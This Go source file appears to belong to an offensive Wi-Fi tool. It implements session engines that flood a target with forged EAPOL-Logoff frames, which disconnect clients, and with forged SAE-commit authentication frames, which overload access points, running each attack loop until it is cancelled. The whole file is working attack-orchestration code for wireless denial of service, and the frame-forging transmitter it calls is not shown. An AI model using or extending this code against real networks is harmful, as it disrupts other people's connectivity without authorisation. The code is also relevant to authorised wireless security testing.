package injection

import (
	"context"
	"log"
	"sync"
	"time"

	"github.com/google/uuid"

	"github.com/lcalzada-xor/wmap-radio/internal/core/domain"
)

// EapolLogoffEngine runs forged EAPOL-Logoff flood sessions, spec §6's
// `attack -e`. Same session-map-by-uuid shape as DeauthEngine, narrowed to
// the one frame this attack ever sends.
type EapolLogoffEngine struct {
	transmitter *Transmitter
	logger      *log.Logger

	mu       sync.Mutex
	sessions map[string]*eapolLogoffSession
}

type eapolLogoffSession struct {
	state  domain.EapolLogoffAttackState
	cancel context.CancelFunc
}

// NewEapolLogoffEngine returns an engine that transmits through transmitter.
func NewEapolLogoffEngine(transmitter *Transmitter, logger *log.Logger) *EapolLogoffEngine {
	if logger == nil {
		logger = log.Default()
	}
	return &EapolLogoffEngine{transmitter: transmitter, logger: logger, sessions: make(map[string]*eapolLogoffSession)}
}

// Start launches a new EAPOL-Logoff flood session and returns its ID.
func (e *EapolLogoffEngine) Start(ctx context.Context, cfg domain.EapolLogoffAttackConfig) string {
	id := uuid.New().String()
	sessionCtx, cancel := context.WithCancel(ctx)
	session := &eapolLogoffSession{
		state: domain.EapolLogoffAttackState{
			ID:        id,
			Config:    cfg,
			Status:    domain.AttackRunning,
			StartedAt: time.Now(),
		},
		cancel: cancel,
	}
	e.mu.Lock()
	e.sessions[id] = session
	e.mu.Unlock()

	go e.run(sessionCtx, session)
	return id
}

func (e *EapolLogoffEngine) run(ctx context.Context, session *eapolLogoffSession) {
	ticker := time.NewTicker(packetInterval)
	defer ticker.Stop()

	station := session.state.Config.ClientMAC
	bssid := session.state.Config.TargetMAC

	for {
		select {
		case <-ctx.Done():
			e.finish(session.state.ID, domain.AttackStopped)
			return
		case <-ticker.C:
			if err := e.transmitter.BroadcastEAPOLLogoff(ctx, station[:], bssid[:]); err != nil {
				if ctx.Err() != nil {
					e.finish(session.state.ID, domain.AttackStopped)
					return
				}
				e.logger.Printf("injection: eapol-logoff session %s: %v", session.state.ID, err)
				e.finish(session.state.ID, domain.AttackFailed)
				return
			}
			e.mu.Lock()
			if s, ok := e.sessions[session.state.ID]; ok {
				s.state.PacketsSent++
			}
			e.mu.Unlock()
		}
	}
}

func (e *EapolLogoffEngine) finish(id string, status domain.AttackStatus) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if s, ok := e.sessions[id]; ok {
		s.state.Status = status
	}
}

// Stop cancels a running session.
func (e *EapolLogoffEngine) Stop(id string) {
	e.mu.Lock()
	session, ok := e.sessions[id]
	e.mu.Unlock()
	if ok {
		session.cancel()
	}
}

// Status returns the current state of session id.
func (e *EapolLogoffEngine) Status(id string) (domain.EapolLogoffAttackState, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	session, ok := e.sessions[id]
	if !ok {
		return domain.EapolLogoffAttackState{}, false
	}
	return session.state, true
}

// StopAll cancels every running session.
func (e *EapolLogoffEngine) StopAll() {
	e.mu.Lock()
	sessions := make([]*eapolLogoffSession, 0, len(e.sessions))
	for _, s := range e.sessions {
		sessions = append(sessions, s)
	}
	e.mu.Unlock()
	for _, s := range sessions {
		s.cancel()
	}
}

// AuthFloodEngine runs forged SAE-commit authentication flood sessions,
// spec §6's `attack -s`.
type AuthFloodEngine struct {
	transmitter *Transmitter
	logger      *log.Logger

	mu       sync.Mutex
	sessions map[string]*authFloodSession
}

type authFloodSession struct {
	state  domain.AuthFloodAttackState
	cancel context.CancelFunc
}

// NewAuthFloodEngine returns an engine that transmits through transmitter.
func NewAuthFloodEngine(transmitter *Transmitter, logger *log.Logger) *AuthFloodEngine {
	if logger == nil {
		logger = log.Default()
	}
	return &AuthFloodEngine{transmitter: transmitter, logger: logger, sessions: make(map[string]*authFloodSession)}
}

// Start launches a new SAE auth-flood session and returns its ID.
func (e *AuthFloodEngine) Start(ctx context.Context, cfg domain.AuthFloodAttackConfig) string {
	id := uuid.New().String()
	sessionCtx, cancel := context.WithCancel(ctx)
	session := &authFloodSession{
		state: domain.AuthFloodAttackState{
			ID:        id,
			Config:    cfg,
			Status:    domain.AttackRunning,
			StartedAt: time.Now(),
		},
		cancel: cancel,
	}
	e.mu.Lock()
	e.sessions[id] = session
	e.mu.Unlock()

	go e.run(sessionCtx, session)
	return id
}

func (e *AuthFloodEngine) run(ctx context.Context, session *authFloodSession) {
	ticker := time.NewTicker(packetInterval)
	defer ticker.Stop()

	bssid := session.state.Config.TargetMAC

	for {
		select {
		case <-ctx.Done():
			e.finish(session.state.ID, domain.AttackStopped)
			return
		case <-ticker.C:
			if err := e.transmitter.FloodSAEAuth(ctx, bssid[:]); err != nil {
				if ctx.Err() != nil {
					e.finish(session.state.ID, domain.AttackStopped)
					return
				}
				e.logger.Printf("injection: auth-flood session %s: %v", session.state.ID, err)
				e.finish(session.state.ID, domain.AttackFailed)
				return
			}
			e.mu.Lock()
			if s, ok := e.sessions[session.state.ID]; ok {
				s.state.PacketsSent++
			}
			e.mu.Unlock()
		}
	}
}

func (e *AuthFloodEngine) finish(id string, status domain.AttackStatus) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if s, ok := e.sessions[id]; ok {
		s.state.Status = status
	}
}

// Stop cancels a running session.
func (e *AuthFloodEngine) Stop(id string) {
	e.mu.Lock()
	session, ok := e.sessions[id]
	e.mu.Unlock()
	if ok {
		session.cancel()
	}
}

// Status returns the current state of session id.
func (e *AuthFloodEngine) Status(id string) (domain.AuthFloodAttackState, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	session, ok := e.sessions[id]
	if !ok {
		return domain.AuthFloodAttackState{}, false
	}
	return session.state, true
}

// StopAll cancels every running session.
func (e *AuthFloodEngine) StopAll() {
	e.mu.Lock()
	sessions := make([]*authFloodSession, 0, len(e.sessions))
	for _, s := range e.sessions {
		sessions = append(sessions, s)
	}
	e.mu.Unlock()
	for _, s := range sessions {
		s.cancel()
	}
}
